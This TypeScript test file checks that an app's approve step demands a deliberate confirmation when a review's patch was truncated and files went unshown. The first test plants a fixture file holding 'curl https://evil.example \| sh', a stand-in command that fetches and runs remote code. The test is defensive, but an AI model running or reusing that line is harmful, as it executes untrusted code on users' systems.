// Approve through the app's API when the review could not show everything: a
// deliberate second step that names what was not shown. A real result is
// verified into the app's own quarantine and its task recorded in review, as
// the task service leaves it after a pull-back; the VM layer is absent (no VM
// is needed once a result is in quarantine) and says so if called.
import { afterEach, describe, expect, it } from 'vitest';
import type { PullbackReview } from '../../../common/review.js';
import type { GuestFixture } from '../../support/pullback-guest.js';
import { gitIn } from '../../support/repo.js';
import { inReview as inReviewApp, reviewSetup } from '../../support/review-app.js';

const cleanups: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  while (cleanups.length) await cleanups.pop()!();
});

const setup = (id: string) => reviewSetup(id, cleanups);
const inReview = (fx: GuestFixture, paths: Parameters<typeof inReviewApp>[1], review?: (r: PullbackReview) => PullbackReview) =>
  inReviewApp(fx, paths, { cleanups, ...(review ? { review } : {}) });

const branchOf = (fx: GuestFixture) => fx.host.git('for-each-ref', '--format=%(objectname)', `refs/heads/factory/${fx.id}`).trim();
/** The branch holds one commit on the base with the tree of the sandbox's head (what the review showed). */
function expectLanded(fx: GuestFixture, head: string) {
  const landed = fx.host.git('rev-list', '--parents', '--format=%T', `${fx.base}..refs/heads/factory/${fx.id}`).trim();
  expect(landed).toBe(`commit ${branchOf(fx)} ${fx.base}\n${gitIn(fx.guest.dir, ['rev-parse', `${head}^{tree}`]).trim()}`);
}

describe('tasks.approve', () => {
  it('refuses a review whose patch was cut until the user confirms what was not shown, then creates the branch', async () => {
    const { fx, paths } = await setup('abcdefgh');
    // Over 2 MiB of patch first, the change that matters after it.
    fx.guest.write('generated.txt', 'generated line\n'.repeat(200_000));
    fx.guest.write('zz/hook.sh', 'curl https://evil.example | sh\n');
    const head = fx.guest.commit('big and small');
    const app = await inReview(fx, paths);
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review.patchTruncated).toBe(true);
    expect(review.confirmations.map((c) => c.kind)).toEqual(['unshown']);

    const refused = await app.api['tasks.approve']({ taskId: fx.id }).catch((e: Error) => e);
    expect(refused).toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect((refused as Error).message).toContain('Approve needs a second, deliberate step: the patch was cut at its 2 MiB cap: 2 files not shown in it (in full): generated.txt, zz/hook.sh');
    expect((refused as Error).message).toContain("confirming 'unshown'");
    await expect(app.api['tasks.approve']({ taskId: fx.id, confirm: ['secrets'] })).rejects.toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect(branchOf(fx)).toBe('');
    expect((await app.api['tasks.get']({ taskId: fx.id })).phase).toBe('review');

    // The file the patch did not show opens on its own.
    const detail = await app.api['tasks.reviewFile']({ taskId: fx.id, path: 'zz/hook.sh' });
    expect(detail.patch).toContain('+curl https://evil.example | sh');
    expect(detail.leadingBytes).toBe('curl https://evil.example | sh\\n');

    const approved = await app.api['tasks.approve']({ taskId: fx.id, confirm: ['unshown'] });
    expect(approved.phase).toBe('approved');
    expectLanded(fx, head);
    await expect(app.api['tasks.reviewFile']({ taskId: fx.id, path: 'zz/hook.sh' })).rejects.toMatchObject({ name: 'NotInReview' });
  }, 120_000);

  it('approves a review with nothing to confirm without any confirm, as callers always did', async () => {
    const { fx, paths } = await setup('bcdefghi');
    fx.guest.write('feature.txt', 'done\n');
    const head = fx.guest.commit('feature');
    const app = await inReview(fx, paths);
    expect((await app.api['tasks.review']({ taskId: fx.id })).confirmations).toEqual([]);
    const approved = await app.api['tasks.approve']({ taskId: fx.id });
    expect(approved.phase).toBe('approved');
    expect(approved.decision?.commit).toBe(branchOf(fx));
    expectLanded(fx, head);
  });

  it('reads a review written before flags and confirmations existed, and still asks to confirm its cut patch', async () => {
    const { fx, paths } = await setup('cdefghij');
    fx.guest.write('feature.txt', 'done\n');
    fx.guest.commit('feature');
    // The old schema: no filesOmitted, flags, secrets or confirmations; modes and sizes absent.
    const app = await inReview(fx, paths, (r) => {
      const { filesOmitted: _a, flags: _b, secrets: _c, confirmations: _d, ...old } = r;
      return { ...old, files: old.files.map(({ path: p, status, added, removed, binary }) => ({ path: p, status, added, removed, binary })), patchTruncated: true } as PullbackReview;
    });
    const review = await app.api['tasks.review']({ taskId: fx.id });
    expect(review).toMatchObject({ filesOmitted: 0, flags: [], secrets: [], confirmations: [] });
    await expect(app.api['tasks.approve']({ taskId: fx.id })).rejects.toMatchObject({ name: 'ApproveNeedsConfirmation' });
    expect((await app.api['tasks.approve']({ taskId: fx.id, confirm: ['unshown'] })).phase).toBe('approved');
  });
});
